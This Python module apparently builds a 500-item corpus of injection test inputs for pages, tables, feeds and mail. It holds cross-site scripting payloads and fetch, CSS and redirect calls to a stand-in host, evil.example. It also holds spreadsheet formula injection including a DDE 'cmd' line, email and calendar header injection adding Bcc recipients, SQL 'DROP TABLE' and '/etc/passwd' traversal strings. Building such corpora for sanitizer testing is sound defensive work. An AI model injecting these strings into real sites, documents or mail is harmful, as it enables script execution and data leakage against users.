"""Five hundred texts that somebody might type to make a page, a table, a feed or a mail obey."""

from itertools import islice, product

CALLS = (
    "alert(1)",
    "alert`1`",
    "confirm(1)",
    "prompt(1)",
    "window['al'+'ert'](1)",
    "top.alert(document.domain)",
    "(0,eval)('alert(1)')",
    "Function('alert(1)')()",
    "setTimeout('alert(1)')",
    "import('data:text/javascript,alert(1)')",
    "fetch('//evil.example')",
)
# %s is what is to be called.
MARKUP = (
    "<script>%s</script>",
    "<ScRiPt>%s</sCrIpT>",
    "<script/x>%s</script>",
    "<scr<script>ipt>%s</script>",
    "<img src=x onerror=%s>",
    "<img/src=x/onerror=%s//",
    '"><img src=x onerror="%s">',
    "'><img src=x onerror='%s'>",
    '" autofocus onfocus="%s" x="',
    "' autofocus onfocus='%s' x='",
    "` onmouseover=%s ",
    "x onmouseover=%s",
    "<svg onload=%s>",
    "<svg><script>%s</script></svg>",
    "<svg><animate onbegin=%s attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:%s"><text y=20>x</text></a></svg>',
    "<svg><style><img src=x onerror=%s></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=%s>",
    "<iframe srcdoc='<script>%s</script>'></iframe>",
    '<iframe src="javascript:%s"></iframe>',
    '<object data="javascript:%s"></object>',
    '<embed src="javascript:%s">',
    '<form action="javascript:%s"><button autofocus>x</button></form>',
    '<a href="javascript:%s">x</a>',
    "<details open ontoggle=%s>",
    "<video><source onerror=%s></video>",
    "<input autofocus onfocus=%s>",
    "<body onload=%s>",
    "<marquee onstart=%s>",
    "<template><script>%s</script></template>",
    "</title><script>%s</script>",
    "</textarea><script>%s</script>",
    "</style><script>%s</script>",
    "</script><script>%s</script>",
    "<!--><script>%s</script>-->",
    "<![CDATA[><script>%s</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=%s>'>",
    "&lt;img src=x onerror=%s&gt;",
    "&#60;script&#62;%s&#60;/script&#62;",
    "\\u003cscript\\u003e%s\\u003c/script\\u003e",
    "';%s;//",
    '";%s;//',
    "`;%s;//",
    "${%s}",
    "{{%s}}",
    "{%% print(%s) %%}",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    "//evil.example/x",
    "/\\evil.example",
    "blob:alert(1)",
)
STYLES = (
    "<style>*{background:url(//evil.example/x)}</style>",
    "};*{background:url(//evil.example)}",
    '" style="background:url(//evil.example/x)',
    "@import '//evil.example/x.css';",
    "<link rel=dns-prefetch href=//evil.example>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
)
CELLS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example";"x")',
    "＝1+1",
    '",=1+1,"',
)
LINES = (
    "x\r\nBcc: evil@example.org",
    "x\nEND:VEVENT\nBEGIN:VEVENT",
    "x\r\n\r\n<p>body",
    "x\u2028ATTENDEE:mailto:evil@example.org",
    'x;ALTREP="http://evil.example"',
    "=?utf-8?q?x=0D=0ABcc=3A_evil=40example.org?=",
    "x\\nEND:VCALENDAR",
    "x\x85Bcc: e",
)
LETTERS = (
    "\u202egnp.exe",
    "\u2066x\u2069",
    "a\x00b",
    "\ud800",
    "\udfff",
    "\ufeffx",
    "\u200b",
    "e" + "\u0301" * 300,
    "\U0001f3f3\ufe0f\u200d\U0001f308",
    "\uffff",
    "\x1b[31m",
    "x" * 100_000,
    "<" * 5000,
    "'; DROP TABLE campaign; --",
    "../../etc/passwd",
)
OTHERS = (*ADDRESSES, *STYLES, *CELLS, *LINES, *LETTERS)
COUNT = 500

_marked = [shape % call for call, shape in product(CALLS, MARKUP)]
# Those that work in a browser; each shape once before any comes again with another call.
FOR_PAGES = tuple([*ADDRESSES, *STYLES, *_marked][:COUNT])
ALL = tuple(islice([*OTHERS, *_marked, *(f" {text}\u00a0" for text in _marked)], COUNT))
